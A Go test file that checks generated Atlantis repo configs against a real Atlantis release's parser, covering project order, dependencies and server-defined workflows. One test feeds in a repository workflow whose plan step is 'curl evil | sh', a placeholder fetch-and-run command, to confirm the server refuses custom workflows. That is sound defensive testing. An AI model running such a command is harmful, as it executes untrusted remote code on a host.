// Package atlantisparse_test, a module of its own so that Atlantis's dependencies
// stay out of the project's: generated atlantis.yaml files must pass the
// repo-config parser and validator of a real Atlantis release (v0.34.0).
package atlantisparse_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/runatlantis/atlantis/server/core/config"
	"github.com/runatlantis/atlantis/server/core/config/valid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/infra-flash/infra/internal/atlantisyaml"
	"github.com/infra-flash/infra/internal/layers"
	"github.com/infra-flash/infra/internal/repoconfig"
	"github.com/infra-flash/infra/internal/testfixture"
)

// serverConfig is the server-side repo config the package renders: it defines
// the infra workflow, which repositories may choose and not redefine.
func serverConfig(t *testing.T) valid.GlobalCfg {
	t.Helper()
	src, err := atlantisyaml.ServerConfig()
	require.NoError(t, err)
	return globalCfg(t, src)
}

func globalCfg(t *testing.T, src []byte) valid.GlobalCfg {
	t.Helper()
	p := &config.ParserValidator{}
	f := filepath.Join(t.TempDir(), "repos.yaml")
	require.NoError(t, os.WriteFile(f, src, 0o644))
	g, err := p.ParseGlobalCfg(f, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
	require.NoError(t, err)
	return g
}

func render(t *testing.T, root string) (*layers.Set, []byte) {
	t.Helper()
	fsys := os.DirFS(root)
	cfg, err := repoconfig.Load(fsys)
	require.NoError(t, err)
	set, err := layers.Discover(fsys, cfg)
	require.NoError(t, err)
	out, err := atlantisyaml.Render(set)
	require.NoError(t, err)
	return set, out
}

func parse(t *testing.T, src []byte, g valid.GlobalCfg) (valid.RepoCfg, error) {
	t.Helper()
	p := &config.ParserValidator{}
	return p.ParseRepoCfgData(src, g, "github.com/acme/infra", "main")
}

// Atlantis reads back what the generator meant: every layer a project in its
// directory, ordered and linked as the layer model says, on the server's infra
// workflow.
func assertProjects(t *testing.T, set *layers.Set, cfg valid.RepoCfg, g valid.GlobalCfg) {
	t.Helper()
	require.Len(t, cfg.Projects, len(set.Layers))
	for i, l := range set.Layers {
		p := cfg.Projects[i]
		require.NotNil(t, p.Name)
		assert.Equal(t, l.Dir, *p.Name)
		assert.Equal(t, l.Path, p.Dir)
		require.NotNil(t, p.WorkflowName)
		assert.Equal(t, atlantisyaml.WorkflowName, *p.WorkflowName)
		assert.Equal(t, l.DependsOn, p.DependsOn)
		assert.False(t, p.Autoplan.Enabled)
		for _, d := range l.DependsOn {
			for _, q := range cfg.Projects {
				if q.Name != nil && *q.Name == d {
					assert.Less(t, q.ExecutionOrderGroup, p.ExecutionOrderGroup, "%s runs after %s", l.Dir, d)
				}
			}
		}
	}
	assert.Empty(t, cfg.Workflows, "the repository defines no workflow")
	wf, ok := g.Workflows[atlantisyaml.WorkflowName]
	require.True(t, ok)
	require.Len(t, wf.Plan.Steps, 1)
	assert.Equal(t, "run", wf.Plan.Steps[0].StepName)
	require.Len(t, wf.Apply.Steps, 1)
	assert.Equal(t, "run", wf.Apply.Steps[0].StepName)
	assert.True(t, cfg.AbortOnExecutionOrderFail)
}

func TestCommittedFilePassesAtlantis(t *testing.T) {
	root := filepath.Join("..", "..", "..")
	set, want := render(t, root)
	have, err := os.ReadFile(filepath.Join(root, atlantisyaml.FileName))
	require.NoError(t, err)
	require.NoError(t, atlantisyaml.Check(have, want))

	g := serverConfig(t)
	cfg, err := parse(t, have, g)
	require.NoError(t, err)
	assertProjects(t, set, cfg, g)
}

// The server's config refuses a repository that brings its own workflow.
func TestServerConfigRefusesRepositoryWorkflows(t *testing.T) {
	_, out := render(t, filepath.Join("..", "..", ".."))
	own := append(append([]byte{}, out...), []byte("workflows:\n  infra:\n    plan:\n      steps:\n        - run: curl evil | sh\n")...)
	_, err := parse(t, own, serverConfig(t))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "custom workflows")
}

// Without the server-side overrides Atlantis refuses the file, as the README says.
func TestDefaultServerConfigRefusesTheWorkflow(t *testing.T) {
	_, out := render(t, filepath.Join("..", "..", ".."))
	_, err := parse(t, out, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "allowed_overrides")
}

func TestGeneratedTreesPassAtlantis(t *testing.T) {
	g := serverConfig(t)
	for name, ls := range map[string][]testfixture.Layer{
		"chain":   testfixture.Chain("base", "apps", "data"),
		"diamond": testfixture.Diamond(6),
		"single":  testfixture.Chain("only"),
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			testfixture.Write(t, dir, testfixture.Tree(ls...))
			set, out := render(t, dir)
			cfg, err := parse(t, out, g)
			require.NoError(t, err, "%s", out)
			assertProjects(t, set, cfg, g)
		})
	}
}
